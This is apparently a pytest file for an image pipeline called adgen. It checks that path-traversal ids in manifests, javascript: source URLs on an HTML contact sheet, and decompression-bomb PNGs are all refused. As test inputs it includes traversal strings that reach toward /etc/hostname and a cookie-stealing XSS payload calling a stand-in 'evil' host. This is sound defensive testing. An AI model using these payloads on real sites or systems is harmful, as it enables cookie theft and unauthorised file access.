"""Issue 14, cases 3, 6 and 7 (bags): data from outside never picks a path, a link or a decoder size.

Case 3: a raw/filtered/stripped manifest row whose `image_id` is `../../../../escape/x` (manifests are
files users copy, merge and pull) is refused by every stage with one line before anything is
written; before the fix `adgen filter` wrote masks and thumbnails outside the data dir.
Case 6: a crawled `source_url` of `javascript:...` never becomes an href on the contact sheet.
Case 7: a 20000 x 20000 PNG in `adgen bags import` is one line, not a DecompressionBombError trace.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
import yaml

from adgen import manifest
from tests.detect.conftest import Project, encode, fixture_detector_dir, kept_photo  # noqa: F401
from tests.matting.scenes import draw_person, write_filtered_project

from .conftest import adgen, error_line, png_claiming, write_png

TRAVERSAL = "../../../../escape/x"


def _outside(tmp_path: Path, project: Path) -> list[Path]:
    """Every file under tmp_path that is not inside the project dir."""
    return [p for p in tmp_path.rglob("*") if p.is_file() and project not in p.parents]


def _deep_project(tmp_path: Path) -> Path:
    """Deep enough that a traversal id, once joined to a data dir, still lands inside tmp_path."""
    root = tmp_path / "a" / "b" / "c" / "project"
    root.mkdir(parents=True)
    return root


def test_filter_refuses_a_traversal_image_id_before_writing_anything(
    tmp_path: Path,
    fixture_detector_dir: Path,  # noqa: F811
) -> None:
    root = _deep_project(tmp_path)
    project = Project(root, fixture_detector_dir)
    project.add_image(kept_photo())
    project.rows[0]["image_id"] = TRAVERSAL  # the detector keeps this photo: masks would be written
    project.write()
    line = error_line(adgen("filter", cwd=root))
    assert "image_id" in line and "escape" in line
    assert _outside(tmp_path, root) == []
    assert not (root / "data/filtered/.filter-stamp").exists()


@pytest.mark.parametrize("column", ["image_id", "member"])
def test_strip_refuses_a_traversal_in_the_filtered_manifest(column: str, tmp_path: Path) -> None:
    root = _deep_project(tmp_path)
    write_filtered_project(root, [draw_person(seed=1)], image_format="PNG")
    filtered = root / "data/filtered/manifest.parquet"
    df = pd.read_parquet(filtered)
    df.loc[0, column] = TRAVERSAL if column == "image_id" else "../../../../../../etc/hostname"
    df.to_parquet(filtered, index=False)
    (root / "params.yaml").write_text(yaml.safe_dump({"strip": {"refine_detector_masks": False}}))
    line = error_line(adgen("strip", cwd=root))
    assert column in line and str(filtered) in line
    assert _outside(tmp_path, root) == []
    assert not (root / "data/stripped").exists()


@pytest.mark.parametrize("column", ["image_id", "member"])
def test_pose_refuses_a_traversal_in_the_stripped_manifest(column: str, tmp_path: Path) -> None:
    """Pose runs after strip, on strip's manifest (issue 28): a traversal there is one line and
    no keypoints; before strip has run, pose refuses too (it used to estimate nobody and exit 0)."""
    root = _deep_project(tmp_path)
    write_filtered_project(root, [draw_person(seed=1)], image_format="PNG")
    (root / "params.yaml").write_text(
        yaml.safe_dump({"strip": {"refine_detector_masks": False}, "pose": {"model": "no-model-needed"}})
    )
    stripped = root / "data/stripped/manifest.parquet"
    line = error_line(adgen("pose", cwd=root))
    assert str(stripped) in line and "adgen strip" in line
    assert adgen("strip", cwd=root).returncode == 0
    df = manifest.read(stripped)
    assert df["keep"].any()
    row = df.index[df["keep"]][0]
    df.loc[row, column] = TRAVERSAL if column == "image_id" else "../../../../../../etc/hostname"
    manifest.write(df, stripped)
    line = error_line(adgen("pose", cwd=root))
    assert column in line and str(stripped) in line
    assert _outside(tmp_path, root) == []
    assert not (root / "data/pose").exists()


def test_build_datasets_refuses_a_traversal_id_in_the_stripped_manifest(tmp_path: Path) -> None:
    root = _deep_project(tmp_path)
    write_filtered_project(root, [draw_person(seed=s) for s in (1, 2)], image_format="PNG")
    (root / "params.yaml").write_text(yaml.safe_dump({"strip": {"refine_detector_masks": False}}))
    assert adgen("strip", cwd=root).returncode == 0
    stripped = root / "data/stripped/manifest.parquet"
    df = manifest.read(stripped)
    df.loc[0, "image_id"] = "../../../../../../../../escape/" + "x" * 24
    manifest.write(df, stripped)
    line = error_line(adgen("build-datasets", cwd=root))
    assert "image_id" in line and str(stripped) in line
    assert _outside(tmp_path, root) == []


def test_the_contact_sheet_never_links_a_javascript_url(
    tmp_path: Path,
    fixture_detector_dir: Path,  # noqa: F811
) -> None:
    project = Project(tmp_path, fixture_detector_dir)
    project.add(encode(kept_photo()), source_url="javascript:fetch('//evil/'+document.cookie)")
    project.add(encode(kept_photo((170, 250))), source_url=" JaVaScRiPt:alert(1)")
    project.add(encode(kept_photo((180, 260))), source_url="https://stock.example/photo/1")
    project.write()
    proc = adgen("filter", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    page = (tmp_path / "data/filtered/contact_sheet.html").read_text().lower()
    assert "javascript" not in page
    assert 'href="https://stock.example/photo/1"' in page


def test_a_decompression_bomb_in_bags_import_is_one_line(tmp_path: Path) -> None:
    bags = tmp_path / "bags"
    write_png(bags / "good.png", mode="RGBA")
    png_claiming(bags / "huge.png", 20000, 20000)
    (tmp_path / "params.yaml").write_text("{}\n")
    line = error_line(adgen("bags", "import", str(bags), cwd=tmp_path))
    assert "huge.png" in line and "pixel limit" in line
    assert not (tmp_path / "data").exists() or not list((tmp_path / "data").rglob("*.png"))


def test_a_decompression_bomb_given_to_generate_or_composite_is_one_line(tmp_path: Path) -> None:
    huge = png_claiming(tmp_path / "huge.png", 20000, 20000)
    (tmp_path / "params.yaml").write_text("{}\n")
    (tmp_path / "pose.json").write_text("[" + ",".join(["[0.5, 0.5]"] * 18) + "]")
    line = error_line(adgen("generate", "--pose", "pose.json", "--bag", str(huge), "-o", "ads", cwd=tmp_path))
    assert "huge.png" in line and "pixel limit" in line
    person = write_png(tmp_path / "person.png")
    ckpt = tmp_path / "never-read.pt"
    ckpt.write_bytes(b"")
    proc = adgen(
        "composite", "--checkpoint", str(ckpt), "--person", str(person), "--bag", str(huge), "-o", "out.png",
        cwd=tmp_path,
    )  # fmt: skip
    line = error_line(proc)
    assert "huge.png" in line and "pixel limit" in line
